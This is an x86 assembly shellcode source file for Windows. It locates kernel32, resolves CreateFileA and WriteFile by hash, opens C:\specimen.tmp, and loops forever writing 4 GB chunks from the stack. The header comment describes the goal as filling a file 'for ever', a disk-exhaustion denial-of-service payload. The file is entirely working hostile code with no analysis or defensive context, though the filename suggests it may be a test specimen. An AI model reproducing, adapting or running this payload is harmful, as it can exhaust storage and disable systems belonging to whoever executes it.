# Writes four gigabytes at a time into a file, from the middle of its stack, for ever.
.include "common.inc"
start:
  find_kernel32
  jmp data
begin:
  pop edi                     # the texts
  push 0
  push 0
  push 2
  push 0
  push 0
  push 0x40000000
  push edi
  call_by_hash CreateFileA
  mov esi, eax
again:
  push 0
  push 0
  push 0xFFFFFFFF
  push esp
  push esi
  call_by_hash WriteFile
  jmp again
find_function_code
data:
  call begin
texts:
  .asciz "C:\\specimen.tmp"
